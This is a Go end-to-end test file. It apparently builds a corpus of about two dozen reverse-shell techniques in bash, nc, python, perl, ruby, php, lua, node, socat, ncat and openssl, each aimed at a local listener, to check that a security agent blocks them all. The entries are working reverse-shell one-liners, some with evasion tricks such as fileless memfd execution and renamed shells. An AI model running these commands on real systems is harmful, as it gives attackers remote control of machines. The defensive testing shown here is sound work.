package e2e

import (
	"fmt"
	"strconv"
)

// The attack corpus of the precision test (corpus_test.go): reverse-shell
// techniques, each against the attacker's listener on 127.0.0.1 that
// types `echo PWNED-$((6*7)); exit` into whatever connects. Under the
// built-in default every one must be stopped: no PWNED-42 reaches the
// listener and the agent reports an enforced verdict.

// attackCorpus lists the techniques: the suite's own (techniques_test.go,
// relayed_test.go, escape_test.go, revshell_test.go) and more shells,
// interpreters and relays.
func attackCorpus() []corpusCase {
	return append(socketStdioAttacks(), relayAttacks()...)
}

// pyTechnique is a python3 technique: body runs with s connected to the listener.
func pyTechnique(body string) func(int) []string {
	return func(port int) []string {
		return []string{"/usr/bin/python3", "-c", fmt.Sprintf("import socket,subprocess,os,pty,select,threading\n"+
			"s=socket.create_connection((\"127.0.0.1\",%d))\n", port) + body}
	}
}

// bashTechnique is a bash technique: format gets the listener's port.
func bashTechnique(format string) func(int) []string {
	return func(port int) []string { return []string{"/bin/bash", "-c", fmt.Sprintf(format, port)} }
}

// socketStdioAttacks run a shell with the socket itself on its stdio.
func socketStdioAttacks() []corpusCase {
	return []corpusCase{
		{name: "bash-dev-tcp", what: "bash -i >& /dev/tcp/HOST/PORT 0>&1", attack: bashDevTCP},
		{name: "bash-dev-udp", what: "bash -i >& /dev/udp/HOST/PORT 0>&1", attack: bashTechnique("bash -i >& /dev/udp/127.0.0.1/%d 0>&1"), udp: true},
		{name: "nc-traditional-e", what: "nc.traditional -e /bin/sh HOST PORT", attack: func(port int) []string {
			return []string{"/usr/bin/nc.traditional", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
		}},
		{name: "busybox-nc-e", what: "busybox nc HOST PORT -e /bin/sh", attack: func(port int) []string {
			return []string{"/usr/bin/busybox", "nc", "127.0.0.1", strconv.Itoa(port), "-e", "/bin/sh"}
		}},
		{name: "busybox-ash-applet", what: "busybox ash -i on a dialled socket (applet, file named busybox)",
			attack: bashTechnique("exec 3<>/dev/tcp/127.0.0.1/%d; exec /usr/bin/busybox ash -i <&3 >&3 2>&3")},
		{name: "python3-dup2-sh", what: "python3: connect, dup2 onto 0-2, subprocess sh -i",
			attack: pyTechnique("os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\nsubprocess.call([\"/bin/sh\",\"-i\"])")},
		{name: "perl-socket-exec", what: "perl: Socket, open STDIN/STDOUT/STDERR >&S, exec sh -i", attack: func(port int) []string {
			return []string{"/usr/bin/perl", "-e", fmt.Sprintf(`use Socket;$i="127.0.0.1";$p=%d;`+
				`socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));`+
				`if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};`, port)}
		}},
		{name: "ruby-reopen-exec", what: "ruby: TCPSocket, reopen stdio, exec sh -i", attack: func(port int) []string {
			return []string{"/usr/bin/ruby", "-rsocket", "-e", fmt.Sprintf(`c=TCPSocket.new("127.0.0.1",%d);`+
				`$stdin.reopen(c);$stdout.reopen(c);$stderr.reopen(c);exec("/bin/sh -i")`, port)}
		}},
		{name: "php-proc-open", what: "php: fsockopen, proc_open sh -i with the socket as stdio", attack: func(port int) []string {
			return []string{"/usr/bin/php", "-r", fmt.Sprintf(`$s=fsockopen("127.0.0.1",%d);`+
				`$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);`, port)}
		}},
		{name: "lua-socket-fd3", what: "lua5.4: luasocket connect (fd 3), os.execute sh -i <&3 >&3", attack: func(port int) []string {
			return []string{"/usr/bin/lua5.4", "-e", fmt.Sprintf(`local socket=require("socket");local t=socket.tcp();`+
				`assert(t:connect("127.0.0.1",%d));os.execute("/bin/sh -i <&3 >&3 2>&3")`, port)}
		}},
		{name: "node-spawn-stdio-socket", what: "node: net.connect, spawn sh -i with stdio [socket x3]", attack: func(port int) []string {
			return []string{"/usr/bin/node", "-e", fmt.Sprintf(`const c=require("net").connect(%d,"127.0.0.1",()=>{`+
				`require("child_process").spawn("/bin/sh",["-i"],{stdio:[c,c,c]})})`, port)}
		}},
		{name: "node-spawn-relay", what: "node: net.connect, spawn sh -i on its own pipes and relay", relay: true, attack: func(port int) []string {
			return []string{"/usr/bin/node", "-e", fmt.Sprintf(`const c=require("net").connect(%d,"127.0.0.1",()=>{`+
				`const p=require("child_process").spawn("/bin/sh",["-i"]);c.pipe(p.stdin);p.stdout.pipe(c);p.stderr.pipe(c)})`, port)}
		}},
		{name: "copied-shell", what: "cp bash /tmp/kworker; /tmp/kworker -i >& /dev/tcp",
			attack: bashTechnique("cp /usr/bin/bash /tmp/kworker && /tmp/kworker -c '/tmp/kworker -i >& /dev/tcp/127.0.0.1/%d 0>&1'")},
		{name: "symlinked-shell", what: "ln -s bash /tmp/svc; /tmp/svc -i >& /dev/tcp",
			attack: bashTechnique("ln -s /usr/bin/bash /tmp/svc && /tmp/svc -c '/tmp/svc -i >& /dev/tcp/127.0.0.1/%d 0>&1'")},
		{name: "ld-so-shell", what: "ld-linux-x86-64.so.2 /bin/bash -i on a dialled socket",
			attack: bashTechnique("exec 3<>/dev/tcp/127.0.0.1/%d; exec " + ldso + " /bin/bash -i <&3 >&3 2>&3")},
		{name: "memfd-shell", what: "python3: bash copied into a memfd, exec'd on the socket (fileless)",
			attack: pyTechnique("os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n" +
				"fd=os.memfd_create(\"x\")\nos.write(fd,open(\"/usr/bin/bash\",\"rb\").read())\n" +
				"os.execv(\"/proc/self/fd/%d\"%fd,[\"bash\",\"-i\"])")},
		{name: "unshare-namespaces", what: "unshare --user --mount --pid, then bash /dev/tcp", attack: func(port int) []string {
			return []string{"/usr/bin/unshare", "--user", "--map-root-user", "--mount", "--pid", "--fork", "/bin/bash", "-c", devTCP(port)}
		}},
	}
}

// relayAttacks run a shell on pipes, fifos, ptys or socketpairs that
// another process relays to the socket.
func relayAttacks() []corpusCase {
	return []corpusCase{
		{name: "fifo-nc-relay", what: "mkfifo; cat f | sh -i 2>&1 | nc HOST PORT > f", relay: true,
			attack: bashTechnique("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 127.0.0.1 %d > /tmp/f")},
		{name: "pipe-relay-python", what: "python3: connect, sh -i on pipes, threads relay", relay: true,
			attack: pyTechnique("p=subprocess.Popen([\"/bin/sh\",\"-i\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n" +
				"threading.Thread(target=lambda:[p.stdin.write(b) or p.stdin.flush() for b in iter(lambda:s.recv(1024),b\"\")],daemon=True).start()\n" +
				"[s.sendall(b) for b in iter(lambda:p.stdout.read1(1024),b\"\")]")},
		{name: "socketpair-relay-python", what: "python3: connect, sh -i on a unix socketpair, relay", relay: true,
			attack: pyTechnique("a,b=socket.socketpair()\np=subprocess.Popen([\"/bin/sh\",\"-i\"],stdin=b,stdout=b,stderr=b)\nb.close()\n" +
				"while p.poll() is None:\n r,_,_=select.select([s,a],[],[],1)\n for x in r:\n  d=x.recv(1024)\n  if not d: raise SystemExit\n  (a if x is s else s).sendall(d)")},
		{name: "pty-spawn-python", what: "python3: dup2 the socket, pty.spawn(/bin/sh)", relay: true,
			attack: pyTechnique("os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\npty.spawn(\"/bin/sh\")")},
		{name: "socat-exec-pty", what: "socat exec:'sh -i',pty,stderr,setsid tcp:HOST:PORT", relay: true, attack: func(port int) []string {
			return []string{"/usr/bin/socat", "exec:sh -i,pty,stderr,setsid", "tcp:127.0.0.1:" + strconv.Itoa(port)}
		}},
		{name: "ncat-e-pipes", what: "ncat -e /bin/sh HOST PORT (pipes)", relay: true, attack: func(port int) []string {
			return []string{"/usr/bin/ncat", "-e", "/bin/sh", "127.0.0.1", strconv.Itoa(port)}
		}},
		{name: "openssl-fifo-relay", what: "sh -i < fifo | openssl s_client > fifo (TLS)", relay: true, tls: true,
			attack: bashTechnique("rm -f /tmp/s; mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -no_ign_eof -connect 127.0.0.1:%d > /tmp/s; rm -f /tmp/s")},
	}
}
